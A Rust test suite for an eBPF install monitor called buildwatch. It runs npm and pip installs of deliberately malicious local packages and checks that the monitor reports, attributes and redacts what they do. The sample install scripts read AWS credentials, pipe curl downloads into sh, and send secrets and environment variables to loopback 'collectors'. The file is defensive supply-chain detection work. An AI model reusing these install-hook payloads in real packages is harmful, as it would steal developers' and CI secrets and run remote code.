//! Real package installs under real eBPF: npm installing a local package tarball, pip building
//! a local sdist, the seed scenario (a backdoored patch release), and the benign side (native
//! builds with make, cc and git). Nothing leaves the machine: npm's registry is a closed
//! loopback port, pip runs with --no-index, and every "exfiltration" goes to loopback.
//!
//! Each test also replays its own event stream and checks the replay reports exactly what the
//! live run reported.

use std::{
    fs,
    net::TcpListener,
    path::{Path, PathBuf},
};

use buildwatch_tests::*;
use serde_json::json;

/// `npm install TARBALL` in the project, watched.
fn npm_install(tmp: &TempDir, proj: &Path, env: &[(&str, String)], tgz: &Path) -> Watched {
    watch(
        tmp,
        proj,
        env,
        &[],
        &["npm", "install", tgz.to_str().unwrap()],
    )
}

/// A throw-away HOME holding a fake AWS credential.
fn fake_home(tmp: &TempDir) -> PathBuf {
    let home = tmp.join("home");
    fs::create_dir_all(home.join(".aws")).unwrap();
    fs::write(
        home.join(".aws/credentials"),
        "[default]\naws_access_key_id = AKIAFAKEFAKEFAKE\n",
    )
    .unwrap();
    home
}

fn project(tmp: &TempDir) -> PathBuf {
    let p = tmp.join("project");
    fs::create_dir_all(&p).unwrap();
    fs::write(
        p.join("package.json"),
        r#"{"name":"app","version":"1.0.0","private":true}"#,
    )
    .unwrap();
    p
}

fn only_loopback_egress(w: &Watched) {
    for e in w.report["egress"].as_array().unwrap() {
        let a = e["address"].as_str().unwrap();
        assert!(
            a.starts_with("127.") || a == "::1",
            "traffic left loopback: {e}"
        );
    }
}

const STEALER_JS: &str = r#"
const fs = require('fs'), cp = require('child_process');
fs.readFileSync(process.env.HOME + '/.aws/credentials');
cp.execSync('curl -s -m 2 http://127.0.0.1:9/stage2 | sh');
"#;

#[test]
fn npm_postinstall_that_steals_is_reported_with_its_package_and_fails() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("npm-evil");
    let home = fake_home(&tmp);
    let tgz = npm_package(
        &tmp,
        "evil-helper",
        "1.0.1",
        &[("install.js", STEALER_JS)],
        json!({"postinstall": "node install.js"}),
    );
    let proj = project(&tmp);
    let w = npm_install(&tmp, &proj, &npm_env(&home), &tgz);
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    assert_eq!(w.report["exit_code"], 0, "npm itself succeeded");
    let read = w.finding("sensitive-file-read");
    assert_eq!(
        read["detail"]["path"],
        home.join(".aws/credentials").display().to_string()
    );
    // Named by npm's own variables in the lifecycle shell's environment, with the step.
    assert_eq!(
        read["package"],
        json!({"manager": "npm", "name": "evil-helper", "version": "1.0.1", "step": "postinstall"})
    );
    assert_eq!(read["process"]["argv"], json!(["node", "install.js"]));
    let ancestry: Vec<&str> = read["process"]["ancestry"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["exe"].as_str().unwrap_or(""))
        .collect();
    assert!(
        ancestry.iter().any(|e| e.ends_with("/sh")),
        "lifecycle shell in the ancestry: {ancestry:?}"
    );
    // One action, one finding: the curl the piped command started is a part of it, not a
    // finding of its own.
    let pipe = w.finding("download-piped-to-shell");
    assert_eq!(pipe["severity"], "critical");
    assert_eq!(pipe["package"]["name"], "evil-helper");
    let parts: Vec<&str> = pipe["parts"]
        .as_array()
        .map(|a| a.iter().map(|p| p["rule"].as_str().unwrap()).collect())
        .unwrap_or_default();
    assert!(
        parts.contains(&"network-tool-in-install-script"),
        "{pipe:#}"
    );
    let rules = w.finding_rules();
    assert!(
        !rules.contains(&"network-tool-in-install-script".to_owned()),
        "{rules:?}"
    );
    assert_eq!(
        rules
            .iter()
            .filter(|r| *r == "download-piped-to-shell")
            .count(),
        1,
        "{rules:?}"
    );
    // Live lines name the package; the summary shows the verdict.
    let err = w.stderr();
    assert!(
        err.contains("[CRITICAL] download-piped-to-shell")
            && err.contains("  package npm evil-helper@1.0.1, postinstall"),
        "{err}"
    );
    assert!(err.contains("policy: FAILED"), "{err}");
    only_loopback_egress(&w);
    assert_replay_matches(&w, &proj, &[]);
}

fn pip_install(tmp: &TempDir, home: &Path, sdist: &Path) -> Watched {
    let target = tmp.join("site");
    let env = [
        ("HOME", home.display().to_string()),
        ("PIP_NO_INDEX", "1".into()),
        ("PIP_DISABLE_PIP_VERSION_CHECK", "1".into()),
    ];
    let cmd = [
        "python3",
        "-m",
        "pip",
        "install",
        "--no-index",
        "--no-cache-dir",
        "--target",
        target.to_str().unwrap(),
        sdist.to_str().unwrap(),
    ];
    watch(tmp, tmp.path(), &env, &[], &cmd)
}

#[test]
fn pip_sdist_build_that_steals_is_reported_with_its_package() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("pip-evil");
    let home = fake_home(&tmp);
    let pre = "    open(os.path.expanduser('~/.aws/credentials')).read()\n    subprocess.run('curl -s -m 2 http://127.0.0.1:9/p | sh', shell=True)\n";
    let tgz = sdist(&tmp, "evilext", "2.0.1", pre);
    let w = pip_install(&tmp, &home, &tgz);
    assert_eq!(w.report["exit_code"], 0, "pip succeeded: {}", w.stderr());
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let read = w.finding("sensitive-file-read");
    // The build phase is the PEP 517 hook pip ran.
    assert_eq!(
        read["package"],
        json!({"manager": "pip", "name": "evilext", "version": "2.0.1", "step": "build_wheel"})
    );
    assert_eq!(
        w.finding("download-piped-to-shell")["package"]["name"],
        "evilext"
    );
    only_loopback_egress(&w);
    assert_replay_matches(&w, tmp.path(), &[]);
}

#[test]
fn seed_scenario_backdoored_patch_release() {
    if !require_bpf() {
        return;
    }
    // A dormant package's patch release 1.4.1 reads AWS_* variables and ~/.aws/credentials,
    // then sends them to its "collector". The project's policy allows only its registry
    // (127.0.0.1), and not loopback in general, so the collector on 127.0.0.3 is unlisted.
    let collector = TcpListener::bind("127.0.0.3:0").expect("bind 127.0.0.3");
    let port = collector.local_addr().unwrap().port();
    // Accepts the one connection and closes it once read, so the script can finish.
    let collector = std::thread::spawn(move || {
        use std::io::Read;
        collector.set_nonblocking(true).unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        let conn = loop {
            match collector.accept() {
                Ok((s, _)) => break Some(s),
                Err(_) if std::time::Instant::now() < deadline => {
                    std::thread::sleep(std::time::Duration::from_millis(20))
                }
                Err(_) => break None,
            }
        };
        if let Some(s) = conn {
            s.set_nonblocking(false).unwrap();
            let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(10)));
            let mut sink = Vec::new();
            let _ = s.take(1 << 16).read_to_end(&mut sink);
        }
    });
    let tmp = TempDir::new("seed");
    let home = fake_home(&tmp);
    let js = format!(
        "const fs = require('fs'), net = require('net');\n\
         const keys = Object.keys(process.env).filter(k => k.startsWith('AWS_'));\n\
         const cred = fs.readFileSync(process.env.HOME + '/.aws/credentials', 'utf8');\n\
         const s = net.connect({port}, '127.0.0.3', () => {{ s.end(JSON.stringify({{keys, cred}})); }});\n\
         s.on('error', () => {{}});\n\
         setTimeout(() => process.exit(0), 5000).unref();\n"
    );
    let tgz = npm_package(
        &tmp,
        "dormant-pad",
        "1.4.1",
        &[("index.js", &js)],
        json!({"install": "node index.js"}),
    );
    let proj = project(&tmp);
    fs::write(
        proj.join(".buildwatch.yaml"),
        "allow_loopback: false\nallow:\n  - 127.0.0.1\n",
    )
    .unwrap();
    let mut env = npm_env(&home);
    env.push(("AWS_SECRET_ACCESS_KEY", "fake-secret".into()));
    let w = npm_install(&tmp, &proj, &env, &tgz);
    collector.join().unwrap();
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let pkg =
        json!({"manager": "npm", "name": "dormant-pad", "version": "1.4.1", "step": "install"});
    assert_eq!(w.finding("sensitive-file-read")["package"], pkg);
    let egress = w.finding("egress-unlisted");
    assert_eq!(egress["package"], pkg);
    assert_eq!(egress["detail"]["address"], "127.0.0.3");
    assert_eq!(egress["detail"]["port"], port);
    let dests = w.report["egress"].as_array().unwrap();
    assert!(
        dests
            .iter()
            .any(|e| e["address"] == "127.0.0.3" && e["allowed"] == false),
        "{dests:?}"
    );
    assert!(
        dests
            .iter()
            .filter(|e| e["address"] == "127.0.0.1")
            .all(|e| e["allowed"] == true),
        "{dests:?}"
    );
    assert_replay_matches(&w, &proj, &[]);
}

#[test]
fn ordinary_native_builds_have_no_high_findings() {
    if !require_bpf() {
        return;
    }
    // node-gyp's shape without node-gyp's header download: npm runs make, make runs cc and
    // git, node loads the result. Then pip builds a C extension from an sdist.
    let tmp = TempDir::new("benign");
    let home = fake_home(&tmp);
    let files = [
        (
            "hello.c",
            "#include <stdio.h>\nint main(void) { puts(\"built\"); return 0; }\n",
        ),
        (
            "Makefile",
            "all: hello\n\tgit --version > /dev/null\n\t./hello\n\nhello: hello.c\n\tcc -O2 -o hello hello.c\n",
        ),
        (
            "check.js",
            "require('child_process').execFileSync('./hello');\n",
        ),
    ];
    let tgz = npm_package(
        &tmp,
        "native-thing",
        "3.1.0",
        &files,
        json!({"install": "make && node check.js"}),
    );
    let proj = project(&tmp);
    let w = npm_install(&tmp, &proj, &npm_env(&home), &tgz);
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
    assert!(
        w.report["events"]["by_kind"]["exec"].as_u64().unwrap() > 5,
        "the build ran"
    );
    let execs = fs::read_to_string(&w.events).unwrap();
    assert!(execs.contains("\"cc\",\"-O2\""), "cc ran under make");
    for f in w.report["findings"].as_array().unwrap() {
        assert!(
            !matches!(f["severity"].as_str(), Some("high" | "critical")),
            "benign npm build: {f:#}"
        );
    }
    assert_replay_matches(&w, &proj, &[]);

    let tmp2 = TempDir::new("benign-pip");
    let tgz = sdist(&tmp2, "fastmath", "0.3.0", "    pass\n");
    let w = pip_install(&tmp2, &home, &tgz);
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
    assert!(
        fs::read_dir(tmp2.join("site")).unwrap().any(|e| e
            .unwrap()
            .file_name()
            .to_string_lossy()
            .starts_with("fastmath")),
        "installed"
    );
    for f in w.report["findings"].as_array().unwrap() {
        assert!(
            !matches!(f["severity"].as_str(), Some("high" | "critical")),
            "benign pip build: {f:#}"
        );
    }
    assert_replay_matches(&w, tmp2.path(), &[]);
}

/// `pip install ./project` of a local source tree (no PKG-INFO): the finding names the
/// project from its pyproject.toml, and the build phase.
#[test]
fn pip_local_directory_build_is_attributed_to_the_project() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("pip-local");
    let home = fake_home(&tmp);
    let pre = "    open(os.path.expanduser('~/.aws/credentials')).read()\n";
    // The unpacked sdist, turned into a plain source tree with its own [project] table.
    sdist(&tmp, "localext", "0.9.0", pre);
    let src = tmp.join("sdist/localext-0.9.0");
    fs::remove_file(src.join("PKG-INFO")).unwrap();
    let pyproject = fs::read_to_string(src.join("pyproject.toml")).unwrap();
    fs::write(
        src.join("pyproject.toml"),
        format!("{pyproject}\n[project]\nname = \"localext\"\nversion = \"0.9.0\"\n"),
    )
    .unwrap();
    let w = pip_install(&tmp, &home, &src);
    assert_eq!(w.report["exit_code"], 0, "pip succeeded: {}", w.stderr());
    assert_eq!(
        w.finding("sensitive-file-read")["package"],
        json!({"manager": "pip", "name": "localext", "version": "0.9.0", "step": "build_wheel"}),
        "{}",
        w.stderr()
    );
}

/// The patch-release story end to end: the same dependency installed at 1.0.0 (its install
/// script runs node and nothing else) and at 1.0.1 (it reads the AWS credentials and runs
/// curl to an address); `buildwatch diff` of the two runs' reports names the
/// package, the version change and exactly what 1.0.1 started doing, and fails the step.
#[test]
fn diff_of_two_npm_runs_shows_what_a_patch_release_started_doing() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("npm-diff");
    let home = fake_home(&tmp);
    let mut reports = Vec::new();
    for (version, js) in [
        ("1.0.0", "require('fs').readFileSync(__filename);\n"),
        (
            "1.0.1",
            "const fs = require('fs'), cp = require('child_process');\n\
             fs.readFileSync(process.env.HOME + '/.aws/credentials');\n\
             try { cp.execSync('curl -s -m 2 http://127.0.0.1:9/stage2'); } catch (e) {}\n",
        ),
    ] {
        let tgz = npm_package(
            &tmp,
            "quiet-dep",
            version,
            &[("install.js", js)],
            json!({"postinstall": "node install.js"}),
        );
        let proj = tmp.join(&format!("project-{version}"));
        fs::create_dir_all(&proj).unwrap();
        fs::write(
            proj.join("package.json"),
            r#"{"name":"app","version":"1.0.0","private":true}"#,
        )
        .unwrap();
        let w = npm_install(&tmp, &proj, &npm_env(&home), &tgz);
        assert_eq!(w.report["exit_code"], 0, "npm succeeded: {}", w.stderr());
        only_loopback_egress(&w);
        let path = tmp.join(&format!("report-{version}.json"));
        fs::write(&path, w.report.to_string()).unwrap();
        reports.push(path);
    }
    let diff = |extra: &[&str]| {
        std::process::Command::new(buildwatch_bin())
            .arg("diff")
            .args([&reports[0], &reports[1]])
            .args(extra)
            .output()
            .unwrap()
    };
    let out = diff(&["--format", "json"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let d: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let pkg = d
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["package"] == "quiet-dep")
        .unwrap_or_else(|| panic!("quiet-dep in the diff: {d:#}"));
    assert_eq!(pkg["before"], json!(["1.0.0"]), "{pkg:#}");
    assert_eq!(pkg["after"], json!(["1.0.1"]), "{pkg:#}");
    let has = |field: &str, want: &str| {
        pkg[field]
            .as_array()
            .unwrap()
            .iter()
            .any(|v| v.as_str().is_some_and(|s| s.contains(want)))
    };
    assert!(has("executables", "curl"), "{pkg:#}");
    assert!(!has("executables", "node"), "node ran in both: {pkg:#}");
    assert!(has("destinations", "127.0.0.1:9"), "{pkg:#}");
    assert!(has("findings", "sensitive-file-read"), "{pkg:#}");
    assert!(has("findings", ".aws/credentials"), "{pkg:#}");
    // The step fails on anything new; the text names the version change.
    let out = diff(&["--fail-on-new"]);
    assert_eq!(out.status.code(), Some(86), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("quiet-dep 1.0.0 → 1.0.1"), "{text}");
    // A run against itself: nothing new, the step passes.
    let out = std::process::Command::new(buildwatch_bin())
        .args(["diff", "--fail-on-new"])
        .args([&reports[1], &reports[1]])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
}

/// Secret taint: an install script whose environment holds the CI's secrets connects to a
/// destination outside the allowlist, without reading any file. The finding names the
/// variables (from the kernel's copy of the environment at exec), never their values. The
/// same connection from a script whose environment holds no secret, or from a process no
/// install script started, is only `egress-unlisted`.
#[test]
fn an_install_script_holding_secrets_that_connects_out_names_the_secrets() {
    if !require_bpf() {
        return;
    }
    const AWS: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYTAINTKEY01";
    const GH: &str = "ghp_FAKEfakeFAKEfakeFAKEfakeFAKEfake0001";
    let tmp = TempDir::new("npm-taint");
    let home = fake_home(&tmp);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let js = format!(
        "require('net').connect({port}, '127.0.0.1').on('connect', function () {{ this.destroy(); }}).on('error', () => {{}});\n"
    );
    let tgz = npm_package(
        &tmp,
        "quiet-sender",
        "2.0.1",
        &[("send.js", &js)],
        json!({"postinstall": "node send.js"}),
    );
    let proj = project(&tmp);
    // Loopback counts as outside the allowlist here, as a real host would.
    fs::write(proj.join(".buildwatch.yaml"), "allow_loopback: false\n").unwrap();
    let mut env = npm_env(&home);
    env.push(("AWS_SECRET_ACCESS_KEY", AWS.into()));
    env.push(("GITHUB_TOKEN", GH.into()));
    env.push(("BUILD_FLAVOUR", "release-candidate-1".into()));
    let w = npm_install(&tmp, &proj, &env, &tgz);
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let f = w.finding("secret-tainted-egress");
    assert_eq!(f["severity"], "high");
    assert_eq!(f["package"]["name"], "quiet-sender");
    let msg = f["message"].as_str().unwrap();
    assert!(
        msg.contains("holding secrets AWS_SECRET_ACCESS_KEY GITHUB_TOKEN,")
            && msg.contains(&format!("127.0.0.1:{port}")),
        "{msg}"
    );
    // One action, one finding: egress-unlisted is its part.
    assert!(
        !w.finding_rules().contains(&"egress-unlisted".to_owned()),
        "{:?}",
        w.finding_rules()
    );
    // The exec events name the variables; no output holds a value.
    let named = w
        .events()
        .iter()
        .any(|e| e["exec"]["secret_env"] == json!(["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]));
    assert!(named, "no exec names the secret variables");
    for (what, text) in [
        ("events", fs::read_to_string(&w.events).unwrap()),
        ("report", w.report.to_string()),
        ("terminal", w.stderr()),
    ] {
        assert!(
            !text.contains(AWS) && !text.contains(GH),
            "a value is in the {what}"
        );
    }
    assert_replay_matches(&w, &proj, &[]);

    // The same script, no secret in its environment: egress-unlisted only.
    let tmp2 = TempDir::new("npm-taint-clean");
    let home2 = fake_home(&tmp2);
    let proj2 = project(&tmp2);
    fs::write(proj2.join(".buildwatch.yaml"), "allow_loopback: false\n").unwrap();
    let tgz2 = npm_package(
        &tmp2,
        "quiet-sender",
        "2.0.1",
        &[("send.js", &js)],
        json!({"postinstall": "node send.js"}),
    );
    let w2 = npm_install(&tmp2, &proj2, &npm_env(&home2), &tgz2);
    let rules = w2.finding_rules();
    assert!(rules.contains(&"egress-unlisted".to_owned()), "{rules:?}");
    assert!(
        !rules.contains(&"secret-tainted-egress".to_owned()),
        "{rules:?}"
    );

    // Secrets, but no install script: the job's own step connecting is egress-unlisted only.
    fs::write(tmp2.join("send.js"), &js).unwrap();
    let w3 = watch(
        &tmp2,
        &proj2,
        &[("AWS_SECRET_ACCESS_KEY", AWS.into())],
        &[],
        &["node", tmp2.join("send.js").to_str().unwrap()],
    );
    let rules = w3.finding_rules();
    assert!(rules.contains(&"egress-unlisted".to_owned()), "{rules:?}");
    assert!(
        !rules.contains(&"secret-tainted-egress".to_owned()),
        "{rules:?}"
    );
    drop(listener);
}

/// A secret in a network tool's arguments: an install script sends the base64 of
/// AWS_SECRET_ACCESS_KEY with curl. The finding names the variable; the argument is
/// `<redacted:VAR>` in the events, the report and the terminal, and the replay (which has no
/// secret to look for) reports the same from those markers. The job's own step passing a
/// token to curl is no finding, and its token is redacted all the same.
#[test]
fn a_secret_in_a_network_tools_arguments_is_found_and_redacted() {
    if !require_bpf() {
        return;
    }
    const AWS: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYARGVKEY01";
    const GH: &str = "ghp_ARGVfakeFAKEfakeFAKEfakeFAKEfake0002";
    let tmp = TempDir::new("npm-argv-secret");
    let home = fake_home(&tmp);
    let js = "require('child_process').execSync('curl -s -m 2 -d \"k=$(printf %s \"$AWS_SECRET_ACCESS_KEY\" | base64 -w0)\" http://127.0.0.1:9/ || true');\n";
    let tgz = npm_package(
        &tmp,
        "arg-sender",
        "3.1.4",
        &[("send.js", js)],
        json!({"postinstall": "node send.js"}),
    );
    let proj = project(&tmp);
    let mut env = npm_env(&home);
    env.push(("AWS_SECRET_ACCESS_KEY", AWS.into()));
    let w = npm_install(&tmp, &proj, &env, &tgz);
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let f = w.finding("secret-in-network-tool-args");
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["package"]["name"], "arg-sender");
    let msg = f["message"].as_str().unwrap();
    assert!(
        msg.starts_with(
            "curl was started with the value of AWS_SECRET_ACCESS_KEY in its arguments"
        ) && msg.contains("<redacted:AWS_SECRET_ACCESS_KEY>"),
        "{msg}"
    );
    let curl = w
        .events()
        .into_iter()
        .find(|e| e["exec"]["argv"][0] == "curl")
        .expect("curl's exec");
    assert_eq!(
        curl["exec"]["argv"][5], "<redacted:AWS_SECRET_ACCESS_KEY>",
        "{curl}"
    );
    let b64 = {
        let out = std::process::Command::new("sh")
            .args(["-c", "printf %s \"$V\" | base64 -w0"])
            .env("V", AWS)
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap()
    };
    assert!(b64.len() > 40);
    for (what, text) in [
        ("events", fs::read_to_string(&w.events).unwrap()),
        ("report", w.report.to_string()),
        ("terminal", w.stderr()),
    ] {
        assert!(
            !text.contains(AWS) && !text.contains(&b64[..24]),
            "the value is in the {what}"
        );
    }
    assert_replay_matches(&w, &proj, &[]);

    // The job's own step (no install script): no finding, and still no token in the output.
    let w2 = watch(
        &tmp,
        &proj,
        &[("GITHUB_TOKEN", GH.into())],
        &[],
        &[
            "sh",
            "-c",
            "curl -s -m 2 -H \"Authorization: token $GITHUB_TOKEN\" http://127.0.0.1:9/ || true",
        ],
    );
    let rules = w2.rules();
    assert!(
        !rules.contains(&"secret-in-network-tool-args".to_owned()),
        "{rules:?}"
    );
    let events = fs::read_to_string(&w2.events).unwrap();
    assert!(!events.contains(GH), "the job's token is in the events");
    assert!(
        events.contains("<redacted:GITHUB_TOKEN>"),
        "curl's argument is not redacted"
    );
}

/// An install script's server: node's listen(0) binds port 0 (which the bind rule leaves
/// alone: clients do that too) and then listens on the port the kernel picked. The listen is
/// the high finding, with that port.
#[test]
fn an_install_script_that_listens_on_a_port_the_kernel_picked_is_a_listener() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("npm-listen");
    let home = fake_home(&tmp);
    let js = "const s = require('net').createServer(c => c.destroy());\n\
              s.listen(0, '0.0.0.0', () => { console.log('port ' + s.address().port); setTimeout(() => s.close(), 300); });\n";
    let tgz = npm_package(
        &tmp,
        "shell-server",
        "0.0.2",
        &[("serve.js", js)],
        json!({"postinstall": "node serve.js"}),
    );
    let proj = project(&tmp);
    let w = npm_install(&tmp, &proj, &npm_env(&home), &tgz);
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let evs = w.events();
    let l = evs
        .iter()
        .find(|e| e["kind"] == "listen")
        .unwrap_or_else(|| panic!("no listen event: {}", w.stderr()));
    let port = l["listen"]["port"]
        .as_u64()
        .expect("the port the kernel picked");
    assert!(port > 0);
    assert!(
        evs.iter()
            .any(|e| e["kind"] == "bind" && e["bind"]["port"] == 0),
        "node binds port 0 first"
    );
    let f = w.finding("listener-in-install-script");
    assert_eq!(f["severity"], "high");
    assert_eq!(f["package"]["name"], "shell-server");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .ends_with(&format!("listens on 0.0.0.0 port {port}")),
        "{f:#}"
    );
    assert_replay_matches(&w, &proj, &[]);
}
